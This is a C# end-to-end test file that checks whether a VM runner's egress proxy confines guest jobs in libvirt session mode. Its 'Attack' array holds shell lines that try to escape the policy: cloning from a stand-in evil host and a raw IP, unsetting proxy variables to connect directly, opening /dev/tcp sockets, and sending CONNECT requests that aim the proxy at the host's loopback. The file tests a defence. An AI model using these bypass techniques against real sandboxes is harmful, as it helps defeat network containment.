using System.Text.Json;
using FluentAssertions;
using VmExecutor.EndToEnd.Tests.Attacks;
using VmExecutor.EndToEnd.Tests.Benches;
using VmExecutor.EndToEnd.Tests.Images;
using VmExecutor.EndToEnd.Tests.Instruments;
using VmExecutor.RunnerSimulator;
using VmExecutor.RunnerSimulator.Jobs;
using VmExecutor.RunnerSimulator.Stages;
using Xunit;

namespace VmExecutor.EndToEnd.Tests.Cases;

/// <summary>Real guests under an egress policy of an ordinary user's runner, with libvirt's session daemon in a network namespace of its own: a proxy is their only way out.</summary>
[AlwaysCold("its libvirt and its state directory are an ordinary user's; the template of one test is its own")]
public sealed class SessionEgressTests(TestMachine machine) : IAsyncLifetime
{
    private const int HangLimit = 600_000;
    private const string Policy = "egress: {allow: .example.test}";
    private const string Direct = "env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY";

    /// <summary>By the proxy, and around it.</summary>
    private static readonly string[] Attack =
    [
        "grep -q world README && echo the-clone-$((1+1))",
        "! git clone -q http://git.example.test/project/.git /tmp/allowed || echo cloned-allowed-$((1+1))",
        "! git clone -q http://evil.test/project/.git /tmp/evil || echo cloned-evil-$((1+1))",
        "! git clone -q http://192.0.2.3/project/.git /tmp/number || echo cloned-by-number-$((1+1))",
        $"! {Direct} timeout 60 git ls-remote -q http://192.0.2.2/project/.git > /dev/null || echo direct-$((1+1))",
        "! timeout 60 git ls-remote -q git://192.0.2.2/project > /dev/null || echo direct-git-$((1+1))",
        "! timeout 20 bash -c 'exec 3<>/dev/tcp/10.0.2.2/8008; read -r line <&3; [ \"$line\" = loopback ]' || echo loopback-$((1+1))",

        // The proxy itself is asked for the host's loopback, by its address and by an allowed name that leads there.
        "by_proxy() { p=${http_proxy#http://}; exec 3<>\"/dev/tcp/${p%:*}/${p#*:}\"; printf 'CONNECT %s HTTP/1.1\\r\\n\\r\\n' \"$1\" >&3; timeout 20 cat <&3; }",
        "! { [ -n \"${http_proxy:-}\" ] && by_proxy 127.0.0.1:8008 | grep -q '^loopback'; } || echo proxy-loopback-$((1+1))",
        "! { [ -n \"${http_proxy:-}\" ] && by_proxy inside.example.test:8008 | grep -q '^loopback'; } || echo proxy-name-$((1+1))",
    ];

    private static readonly string[] Around = ["direct-2", "direct-git-2"];

    private BenchUser? _user;
    private IsolatedLibvirt? _libvirt;
    private Bench? _bench;

    public async ValueTask InitializeAsync()
    {
        machine.Require(await IsolatedLibvirt.MissingAsync("git", "python3"));
        _libvirt = await IsolatedLibvirt.StartAsync(machine.Root);
    }

    public async ValueTask DisposeAsync()
    {
        await using (_libvirt)
        await using (_user)
        await using (_bench)
        {
        }
    }

    [Theory(Explicit = true, Timeout = HangLimit)]
    [InlineData(false)]
    [InlineData(true)]
    public async Task A_job_in_session_mode_gets_out_by_the_proxy_alone_and_only_to_what_its_policy_allows(bool isWarm)
    {
        var bench = await UserAsync(isWarm);
        await using var world = await EgressWorld.StartAsync(_libvirt!, bench.MakeDirectory("world"));
        var sha = (await HostCommand.OutputAsync("git", "-c", "safe.directory=*", "-C", Path.Combine(bench.MakeDirectory("world"), "project"), "rev-parse", "HEAD")).Trim();
        world.Start(_libvirt!.Inside, "python3", "-c", "import socket\ns = socket.create_server(('127.0.0.1', 8008))\nwhile True:\n    c, _ = s.accept(); c.sendall(b'loopback\\n'); c.close()");
        var git = new GitSource("http://git.example.test/project/.git", sha);
        if (isWarm)
        {
            var (exitCode, output, trouble) = await bench.CommandAsync("image", "publish", "small", "--warm");
            exitCode.Should().Be(0, output + trouble);
        }

        var free = await bench.RunJobAsync(new SimulatedJob { Id = 1802, Image = "small", Git = git, Script = Attack });
        bench.With(Image(isWarm) with { Further = [Policy] });
        _user!.Own(_user.Home);
        var (checkedAs, said, wrong) = await bench.CommandAsync("check");
        var result = await bench.RunJobAsync(new SimulatedJob { Id = 1801, Image = "small", Git = git, Script = Attack, AfterScript = ["git ls-remote http://evil.test/project/.git || true"] });
        var (exit, listed, error) = await bench.CommandAsync("egress", "--image", "small", "--json");

        checkedAs.Should().Be(0, wrong);
        said.Should().Contain("note: the egress policy of image small is kept by a proxy");
        result.State.Should().Be(JobState.Success, result.ToString());
        free.TraceText.Should().Contain("the-clone-2").And.Contain("cloned-evil-2").And.Contain("loopback-2");
        result.TraceText.Should().Contain("the-clone-2").And.Contain("cloned-allowed-2").And.Contain("Egress policy 'small' in session mode");
        result.Last(Stage.Run, SubStages.BuildScript).ErrorText.Should().Contain("WARNING: egress policy 'small' refused evil.test\n").And.Contain("WARNING: egress policy 'small' refused 192.0.2.3:80\n")
            .And.Contain("WARNING: egress policy 'small' refused 127.0.0.1:8008\n").And.Contain("WARNING: egress policy 'small' refused inside.example.test:8008 (127.0.0.1)\n");
        result.Last(Stage.Run, SubStages.AfterScript).ErrorText.Should().NotContain("WARNING: egress policy", "it was told");
        exit.Should().Be(0, error);
        var policy = JsonDocument.Parse(listed).RootElement.GetProperty("policies").EnumerateArray().Should().ContainSingle().Subject;
        policy.GetProperty("allowed").EnumerateObject().Select(name => name.Name).Should().Equal("git.example.test", "inside.example.test");
        policy.GetProperty("refused").EnumerateObject().Select(name => name.Name).Should().Contain(["evil.test", "192.0.2.3:80"]);
        if (isWarm)
        {
            WarmProof.Cold(bench.StateDirectory).Should().BeEmpty(result.ToString());
            return;
        }

        var scorecard = new Scorecard();
        scorecard.Note("session-proxy-asked", held: !result.TraceText.Contains("cloned-evil-2") && !result.TraceText.Contains("cloned-by-number-2"), control: free.TraceText.Contains("cloned-evil-2") && free.TraceText.Contains("cloned-by-number-2"), $"{result}\n{free}");
        scorecard.Note("session-around-proxy", held: !Around.Any(result.TraceText.Contains), control: Around.All(free.TraceText.Contains), $"{result}\n{free}");
        scorecard.Note("session-loopback", held: !result.TraceText.Contains("loopback-2") && !result.TraceText.Contains("proxy-name-2"), control: free.TraceText.Contains("loopback-2"), $"{result}\n{free}");
        scorecard.ShouldBeGreen();
    }

    private ImageYaml Image(bool isWarm) => new() { KeyFile = _user!.KeyFile, IsWarm = isWarm };

    private async Task<Bench> UserAsync(bool isWarm)
    {
        _user = await BenchUser.CreateAsync(machine.Guest);
        _bench = new Bench(machine, _user, _libvirt).With(Image(isWarm));
        _bench.CloseHost();
        _user.Own(_user.Home);
        return _bench;
    }
}
